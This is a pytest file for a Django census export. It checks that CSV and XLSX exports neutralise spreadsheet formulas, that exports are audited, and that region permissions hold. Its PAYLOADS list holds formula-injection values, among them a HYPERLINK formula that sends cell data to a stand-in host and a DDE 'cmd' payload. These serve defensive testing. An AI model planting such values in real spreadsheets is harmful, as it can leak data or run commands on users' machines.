"""The census export: cells that cannot run (defect 4), audited exports, `--as`, and no 500
for a region outside (defect 9's superuser case)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.test import Client
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from frontline.accounts.services import user_create
from frontline.audit.models import AuditEvent
from frontline.people import views
from frontline.people.census import CENSUS_COLUMNS, export_census, import_census
from frontline.people.models import Resident
from frontline.people.sheetsafe import escape_quote, neutralise_cell, unneutralise_cell
from frontline.territory.models import Region
from frontline.territory.services import region_by_path

from . import factories as f
from .conftest import ANKANG, PASSWORD


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


# The payloads of the report, and their CSV cells written out by hand (OWASP: one quote).
PAYLOADS = {
    '=HYPERLINK("http://x/?"&A1,"y")': '\'=HYPERLINK("http://x/?"&A1,"y")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(1)": "'@SUM(1)",
    "-2+3": "'-2+3",
    # A value that really begins with a quote before a trigger keeps it through the trip.
    "'=1+1": "''=1+1",
    # A quote before anything else is nobody's formula: left alone.
    "'quoted": "'quoted",
    "plain": "plain",
}


# --- the pure cell functions -------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        *PAYLOADS.items(),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("''-x", "'''-x"),
        ("", ""),
        ("'", "'"),
        ("0564-3371234", "0564-3371234"),
        ("a=b", "a=b"),
    ],
)
def test_neutralise_cell_and_back(value, cell):
    assert neutralise_cell(value) == cell
    assert unneutralise_cell(cell) == value


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=SUM(1)", "=SUM(1)"), ("-", "-"), ("'=x", "''=x"), ("'abc", "'abc"), ("", "")],
)
def test_xlsx_cells_only_escape_a_leading_quote(value, cell):
    assert escape_quote(value) == cell
    assert unneutralise_cell(cell) == value


# --- defect 4: formulas in exports --------------------------------------------------------


@pytest.fixture
def payload_residents(db):
    """One resident per payload, as name and as work unit, and one in a room named -1."""
    residents = []
    for number, payload in enumerate(PAYLOADS, start=1):
        household = f.household(f"{ANKANG}/9栋", room=str(900 + number))
        residents.append(f.resident(household, name=payload, work_unit=payload))
    basement = f.household(f"{ANKANG}/9栋", unit="-", room="-1")
    residents.append(f.resident(basement, name="地下室", work_unit="-"))
    return residents


def _snapshot():
    return list(
        Resident.objects.order_by("id").values(
            "id", "name", "work_unit", "household_id", "id_number", "phone"
        )
    )


def test_csv_export_neutralises_every_formula(payload_residents, tmp_path):
    target = tmp_path / "out.csv"

    export_census(region=region_by_path(""), target=target, fmt="csv")

    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    assert rows[0] == [*CENSUS_COLUMNS, "紧急联系人", "紧急联系电话", "与户主关系"]
    names = {r[CENSUS_COLUMNS.index("姓名")] for r in rows[1:]}
    work = {r[CENSUS_COLUMNS.index("工作单位")] for r in rows[1:]}
    assert names == {*PAYLOADS.values(), "地下室"}
    assert work == {*PAYLOADS.values(), "'-"}
    basement = next(r for r in rows if r[CENSUS_COLUMNS.index("姓名")] == "地下室")
    assert basement[CENSUS_COLUMNS.index("单元")] == "'-"
    assert basement[CENSUS_COLUMNS.index("房号")] == "'-1"
    for row in rows:
        for cell in row:
            assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}, cell


def test_xlsx_export_has_no_formula_cell(payload_residents, tmp_path):
    target = tmp_path / "out.xlsx"

    export_census(region=region_by_path(""), target=target, fmt="xlsx")

    with zipfile.ZipFile(target) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(target).worksheets[0]
    values = []
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if cell.value is not None:
                assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
                values.append(cell.value)
    # As typed, not quoted: a string cell is safe, and the clerk reads the real value;
    # only a value that itself begins with a quote before a trigger carries one more.
    assert '=HYPERLINK("http://x/?"&A1,"y")' in values
    assert "+cmd|' /C calc'!A0" in values and "@SUM(1)" in values and "-2+3" in values
    assert "''=1+1" in values and "'quoted" in values


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_formula_export_imports_back_unchanged(payload_residents, tmp_path, fmt):
    before = _snapshot()
    first = tmp_path / f"first.{fmt}"
    count = export_census(region=region_by_path(""), target=first, fmt=fmt)

    result = import_census(first)

    assert count == len(PAYLOADS) + 1
    assert result.ok, [str(e) for e in result.errors]
    assert result.residents_unchanged == count and result.residents_updated == 0
    assert result.households_created == 0
    assert _snapshot() == before
    second = tmp_path / f"second.{fmt}"
    export_census(region=region_by_path(""), target=second, fmt=fmt)
    if fmt == "csv":
        assert first.read_bytes() == second.read_bytes()


def test_xlsx_export_of_an_old_row_with_a_control_character_does_not_fail(db, tmp_path):
    household = f.household(f"{ANKANG}/1栋")
    # Not NUL: PostgreSQL cannot store it at all; any other C0 character breaks XML alike.
    f.resident(household, name="王\x1b秀英", work_unit="单位\x07")
    target = tmp_path / "out.xlsx"

    assert export_census(region=region_by_path(""), target=target, fmt="xlsx") == 1

    sheet = load_workbook(target).worksheets[0]
    assert sheet.cell(row=2, column=CENSUS_COLUMNS.index("姓名") + 1).value == "王秀英"


# --- audited exports ----------------------------------------------------------------------


def test_export_is_audited_with_region_format_and_rows(lu_an, community_staff, tmp_path):
    ankang = Region.objects.get(path=ANKANG)

    export_census(region=ankang, target=tmp_path / "a.csv", fmt="csv", actor=community_staff)
    export_census(region=region_by_path("裕安区"), target=tmp_path / "b.xlsx", fmt="xlsx")

    system, staff = AuditEvent.objects.filter(action="export").order_by("-id")[:2]
    assert (staff.actor_id, staff.actor_name) == (community_staff.pk, "community_staff")
    assert staff.region == ANKANG and staff.object_type == "region"
    assert staff.object_id == str(ankang.pk)
    assert staff.detail == {"format": "csv", "rows": 3}
    assert (system.actor_id, system.actor_name) == (None, "")
    assert system.region == "裕安区" and system.detail == {"format": "xlsx", "rows": 4}


def test_a_refused_export_writes_no_file_and_no_export_event(lu_an, volunteer, tmp_path):
    from frontline.core.errors import PermissionDenied

    with pytest.raises(PermissionDenied):
        export_census(
            region=Region.objects.get(path=ANKANG),
            target=tmp_path / "a.csv",
            fmt="csv",
            actor=volunteer,
        )
    assert not (tmp_path / "a.csv").exists()
    assert not AuditEvent.objects.filter(action="export").exists()


def test_web_export_is_audited_with_the_address(client, community_staff):
    client.force_login(community_staff)

    response = client.get(reverse("census_export"), {"format": "csv"}, REMOTE_ADDR="10.1.2.3")

    assert response.status_code == 200
    b"".join(response.streaming_content)
    event = AuditEvent.objects.get(action="export")
    assert event.actor_name == "community_staff" and event.ip == "10.1.2.3"
    assert event.region == "裕安区/城南镇/陡步河社区"
    assert event.detail == {"format": "csv", "rows": 3}


# --- export-census --as -------------------------------------------------------------------


def _names(path):
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    return {r[CENSUS_COLUMNS.index("姓名")] for r in rows[1:]}


def test_cli_export_as_a_person_uses_their_jurisdiction_and_is_audited_as_them(
    community_staff, tmp_path, capsys
):
    out = tmp_path / "out.csv"

    call_command("export_census", "-o", str(out), "--as", "community_staff")

    assert _names(out) == {"王秀英", "李强", "李小红"}
    assert "exported 3 residents of" in capsys.readouterr().out
    event = AuditEvent.objects.get(action="export")
    assert event.actor_name == "community_staff" and event.actor_id == community_staff.pk


def test_cli_export_without_as_is_the_system(lu_an, tmp_path):
    out = tmp_path / "out.csv"

    call_command("export_census", "-o", str(out))

    assert _names(out) == {"王秀英", "李强", "李小红", "赵建国", "孙丽"}
    event = AuditEvent.objects.get(action="export")
    assert event.actor_id is None and event.actor_name == ""


@pytest.mark.parametrize(
    ("who", "args", "message"),
    [
        ("nobody", [], "No account named “nobody”."),
        ("retired", [], "The account “retired” is deactivated."),
        ("volunteer", [], "Your role may not export census sheets."),
        ("volunteer", ["--region", "金安区"], "Your role may not export census sheets."),
        ("community_staff", ["--region", "金安区"], "No region at path “金安区”."),
        ("community_staff", ["--region", "裕安区"], "No region at path “裕安区”."),
    ],
)
def test_cli_export_as_refuses_in_one_line(
    community_staff, volunteer, tmp_path, who, args, message
):
    retired = user_create(username="retired", role="community_staff", region=community_staff.region)
    retired.is_active = False
    retired.save(update_fields=["is_active"])
    out = tmp_path / "out.csv"

    with pytest.raises(CommandError) as refused:
        call_command("export_census", "-o", str(out), "--as", who, *args)

    assert str(refused.value) == message
    assert not out.exists()
    assert not AuditEvent.objects.filter(action="export").exists()


# --- defect 9: a superuser with a district region exporting outside it got a 500 ----------


@pytest.fixture
def district_superuser(lu_an):
    user = user_create(
        username="boss",
        role="district_staff",
        region=Region.objects.get(path="裕安区"),
        password=PASSWORD,
    )
    user.is_superuser = True
    user.save(update_fields=["is_superuser"])
    return user


def test_superuser_with_a_district_exporting_outside_it_gets_404(district_superuser):
    client = Client()
    client.force_login(district_superuser)
    outside = Region.objects.get(path="金安区")

    response = client.get(reverse("census_export"), {"region": outside.pk, "format": "csv"})

    assert response.status_code == 404
    inside = client.get(reverse("census_export"), {"format": "csv"})
    assert inside.status_code == 200
    names = {
        r[CENSUS_COLUMNS.index("姓名")]
        for r in csv.reader(io.StringIO(b"".join(inside.streaming_content).decode("utf-8-sig")))
    }
    assert "孙丽" not in names and "王秀英" in names


def test_superuser_with_a_district_exporting_outside_it_on_the_cli(district_superuser, tmp_path):
    with pytest.raises(CommandError, match="^No region at path “金安区”.$"):
        call_command(
            "export_census", "-o", str(tmp_path / "x.csv"), "--as", "boss", "--region", "金安区"
        )


@pytest.mark.parametrize(
    ("error", "status"),
    [("NotFound", 404), ("PermissionDenied", 403)],
)
def test_export_page_turns_domain_refusals_into_404_and_403(
    community_staff, monkeypatch, error, status
):
    """Whatever the policy refuses with, the page answers 404 / 403, never a 500."""
    from frontline.core import errors

    def refuse(**kwargs):
        raise getattr(errors, error)("refused")

    monkeypatch.setattr(views, "export_census", refuse)
    client = Client(raise_request_exception=False)
    client.force_login(community_staff)

    assert client.get(reverse("census_export"), {"format": "csv"}).status_code == status
